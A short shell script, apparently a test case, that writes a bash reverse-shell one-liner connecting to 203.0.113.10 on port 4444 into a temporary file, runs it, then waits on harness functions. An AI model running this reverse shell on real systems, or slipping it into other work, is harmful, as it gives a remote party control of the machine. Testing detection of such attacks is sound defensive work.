#!/bin/sh
. /opt/case/case.sh

cat >/tmp/u.sh <<'END'
0<&196; exec 196<>/dev/tcp/203.0.113.10/4444; sh <&196 >&196 2>&196
END
bash /tmp/u.sh || true
wait_for /tmp/reached
took_place
